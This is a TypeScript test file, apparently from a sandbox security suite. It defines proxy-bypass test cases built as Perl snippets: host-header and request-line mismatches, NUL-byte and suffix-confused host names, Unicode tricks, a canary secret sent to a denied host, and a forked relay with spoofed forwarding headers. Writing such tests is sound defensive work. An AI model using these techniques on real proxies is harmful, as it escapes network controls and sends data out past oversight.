import type { Attack, Evidence } from '../attack.ts';
import { text } from './prelude.ts';
import { attack, DENIED_ANY, DENIED_HOST } from './shape.ts';

interface Reading {
  readonly name: string;
  readonly what: string;
  /** Perl: the bytes sent to the proxy. */
  readonly bytes: string;
  readonly evidence?: readonly Evidence[];
}

/** Requests whose host two parsers read differently: the one that decides sees the allowed name, the one that connects another.
 *  `$D` is the denied authority, `$L` the allowed one. */
const READINGS: readonly Reading[] = [
  {
    name: 'host-header',
    what: 'the request line names one host, the Host header an allowed one',
    bytes: String.raw`GET http://$D/ HTTP/1.1\r\nHost: $L\r\n\r\n`,
  },
  {
    name: 'absolute-form',
    what: 'the request line names an allowed host, the Host header another',
    bytes: String.raw`GET http://$L/ HTTP/1.1\r\nHost: $D\r\n\r\n`,
  },
  {
    name: 'userinfo',
    what: 'an allowed name as user info',
    bytes: String.raw`GET http://$A{allow_host}\@$D/ HTTP/1.1\r\nHost: $L\r\n\r\n`,
  },
  {
    name: 'userinfo-port',
    what: 'an allowed authority as user and password',
    bytes: String.raw`GET http://$L\@$D/ HTTP/1.1\r\nHost: $L\r\n\r\n`,
  },
  {
    name: 'fragment',
    what: 'an allowed name as fragment',
    bytes: String.raw`GET http://$D#$A{allow_host}/ HTTP/1.1\r\nHost: $D\r\n\r\n`,
  },
  {
    name: 'query',
    what: 'an allowed name as query',
    bytes: String.raw`GET http://$D?.$A{allow_host}/ HTTP/1.1\r\nHost: $D\r\n\r\n`,
  },
  {
    name: 'backslash',
    what: 'a backslash that some parsers take for a slash',
    bytes: String.raw`GET http://$D\\\@$L/ HTTP/1.1\r\nHost: $L\r\n\r\n`,
  },
  {
    name: 'trailing-dot',
    what: 'a denied name with a dot at its end',
    bytes: String.raw`GET http://$A{deny_host}.:80/ HTTP/1.1\r\nHost: $A{deny_host}.\r\n\r\n`,
  },
  {
    name: 'upper-case',
    what: 'a denied name in capitals',
    bytes: String.raw`GET http://\U$A{deny_host}\E/ HTTP/1.1\r\nHost: \U$A{deny_host}\E\r\n\r\n`,
    evidence: DENIED_HOST,
  },
  {
    name: 'percent',
    what: 'a percent-encoded dot',
    bytes: String.raw`GET http://$A{wild_host}%2e$A{deny_host}/ HTTP/1.1\r\nHost: $A{wild_host}\r\n\r\n`,
  },
  {
    name: 'full-width',
    what: 'a full-width letter that becomes a plain one',
    bytes: String.raw`GET http://\xef\xbd\x84eny.test/ HTTP/1.1\r\nHost: $L\r\n\r\n`,
  },
  {
    name: 'soft-hyphen',
    what: 'a soft hyphen that disappears',
    bytes: String.raw`GET http://de\xc2\xadny.test/ HTTP/1.1\r\nHost: $L\r\n\r\n`,
  },
  {
    name: 'space',
    what: 'two targets with a space between',
    bytes: String.raw`GET http://$D/ http://$L/ HTTP/1.1\r\nHost: $L\r\n\r\n`,
  },
  {
    name: 'tab',
    what: 'two targets with a tab between',
    bytes: String.raw`GET http://$D/\thttp://$L/ HTTP/1.1\r\nHost: $L\r\n\r\n`,
  },
  {
    name: 'two-hosts',
    what: 'two Host headers',
    bytes: String.raw`GET http://$L/ HTTP/1.1\r\nHost: $L\r\nHost: $D\r\n\r\n`,
  },
  {
    name: 'host-list',
    what: 'a list of hosts in one Host header',
    bytes: String.raw`GET http://$L/ HTTP/1.1\r\nHost: $L, $D\r\n\r\n`,
  },
  {
    name: 'origin-form',
    what: 'an origin-form request to the proxy, with a denied host',
    bytes: String.raw`GET / HTTP/1.1\r\nHost: $A{deny_host}\r\n\r\n`,
  },
];

const NAMES = 'my ($D, $L) = ($A{deny_host}, "$A{allow_host}:$A{allow_port}");';
const CONNECT = 'one canonical host; request line, Host and SNI must agree';

/** Names that look allowed to one reader and are not to another. */
export const HOST_NAMES: readonly Attack[] = [
  ...READINGS.map((one) =>
    attack({
      id: `a14-host-differential-${one.name}`,
      line: 14,
      tries: `asks the proxy with ${one.what}`,
      control: CONNECT,
      program: text(`${NAMES}\njudge('http', ask(proxy(), "${one.bytes}"));`),
      positive: 'open-net',
      watch: ['far', 'allow'],
      evidence: one.evidence ?? DENIED_ANY,
    }),
  ),
  attack({
    id: 'a14-host-differential-direct',
    line: 14,
    tries: 'connects to the address of an allowed host and asks there for another by its Host header',
    control: CONNECT,
    program: text(`judge('tcp', ask(to_name($A{allow_host}, $A{allow_port}), get($A{deny_host})));`),
    positive: 'open-net',
    watch: ['allow'],
    evidence: [{ event: ['egress.denied'], mentions: 'allow_port' }],
  }),
  ...['\\0', '\\r\\n', '\\xff', '%00', ' '].map((cut, at) =>
    attack({
      id: `a13-null-byte-host-${['nul', 'newline', 'not-ascii', 'percent-nul', 'space'][at]}`,
      line: 13,
      tries: `SOCKS to a name with a byte that ends it for some readers and not for others (${['NUL', 'CR LF', '0xFF', '%00', 'space'][at]})`,
      control: 'a byte that no host name has is refused, in every listener',
      // A careless policy sees the ending of an allowed pattern; a careless resolver only what stands before the byte.
      program: text(String.raw`
my $cut = "${cut}";
my $name = "$A{deny_host}$cut.$A{wild_host}";
my $got = socks(3, socks_name($name), $A{wild_port}, get($A{deny_host}));
done('answered by the allowed host for a broken name') if $got =~ /\Q$A{allow_token}\E/;
judge('socks', $got);`),
      positive: 'open-net',
      watch: ['far', 'wild', 'dns'],
      evidence: DENIED_ANY,
    }),
  ),
  attack({
    id: 'a13-null-byte-host-connect',
    line: 13,
    tries: 'CONNECT to a name with a NUL byte before an allowed ending',
    control: 'a byte that no host name has is refused, in every listener',
    program: text(
      String.raw`judge('connect', through("$A{deny_host}\0.$A{wild_host}:$A{wild_port}", get($A{deny_host})));`,
    ),
    positive: 'open-net',
    watch: ['far', 'wild', 'dns'],
    evidence: DENIED_ANY,
  }),
  ...(
    [
      ['prefix', 'evil$A{wild_host}', 'a name that ends in an allowed one without a dot between'],
      ['inside', '$A{wild_host}.$A{deny_host}', 'a name that starts with an allowed one'],
      ['exact-prefix', 'evil$A{allow_host}', 'a name that ends in an exactly allowed one'],
      ['below-exact', 'below.$A{allow_host}', 'a name below an exactly allowed one'],
    ] as const
  ).map(([name, host, what]) =>
    attack({
      id: `a15-suffix-confusion-${name}`,
      line: 15,
      tries: `CONNECT to ${what}`,
      control: 'names are compared label by label',
      program: text(`judge('connect', through("${host}:$A{wild_port}", get($A{deny_host})));`),
      positive: 'open-net',
      watch: ['far', 'wild', 'dns'],
      evidence: [{ event: ['egress.denied'], mentions: 'wild_port' }],
    }),
  ),
  attack({
    id: 'a18-plain-http',
    line: 18,
    tries: 'sends a secret in the path of a plain HTTP request through the proxy',
    control: 'plain HTTP is judged by the same policy as CONNECT',
    program: text(String.raw`
judge('http', ask(proxy(), "GET http://$A{deny_host}/?$A{canary} HTTP/1.1\r\nHost: $A{deny_host}\r\n\r\n"));`),
    positive: 'open-net',
    watch: ['far', 'dns'],
    evidence: DENIED_HOST,
  }),
  attack({
    id: 'a19-relay-in-sandbox',
    line: 19,
    tries: 'starts a relay of its own inside and sends a CONNECT through it',
    control: 'the decision rests on the authority alone, never on who asks or what was allowed before',
    program: text(String.raw`
socket(my $server, AF_INET, SOCK_STREAM, 0) or failed("relay: $!");
bind($server, pack_sockaddr_in(0, inet_aton('127.0.0.1'))) && listen($server, 1) or failed("relay: $!");
my ($port) = unpack_sockaddr_in(getsockname $server);
my $up = proxy() or judge('relay', '');
my $pid = fork;
failed("fork: $!") unless defined $pid;
if (!$pid) {
  accept(my $down, $server) or POSIX::_exit(1);
  fcntl($down, F_SETFL, O_NONBLOCK);
  my $until = time + 6;
  while (time < $until) {
    my $bits = ''; vec($bits, fileno($_), 1) = 1 for $up, $down;
    next unless select($bits, undef, undef, 1) > 0;
    for ([$up, $down], [$down, $up]) {
      my ($from, $to) = @$_;
      next unless vec($bits, fileno($from), 1);
      my $n = sysread $from, my $bytes, 65536;
      POSIX::_exit(0) unless $n;
      syswrite $to, $bytes } }
  POSIX::_exit(0) }
close $up;
my $fh = tcp('127.0.0.1', $port) or judge('relay', '');
put($fh, "CONNECT $A{deny_host}:443 HTTP/1.1\r\nHost: $A{allow_host}:$A{allow_port}\r\nX-Forwarded-For: 127.0.0.1\r\nX-Forwarded-Host: $A{allow_host}\r\n\r\n");
my $said = hear($fh, qr/\r\n\r\n/);
$said = ask($fh, get($A{deny_host})) if $said =~ /^HTTP\/1\.[01] 200/;
judge('relay', $said);`),
    positive: 'open-net',
    watch: ['far', 'dns'],
    evidence: DENIED_HOST,
    seconds: 15,
  }),
];
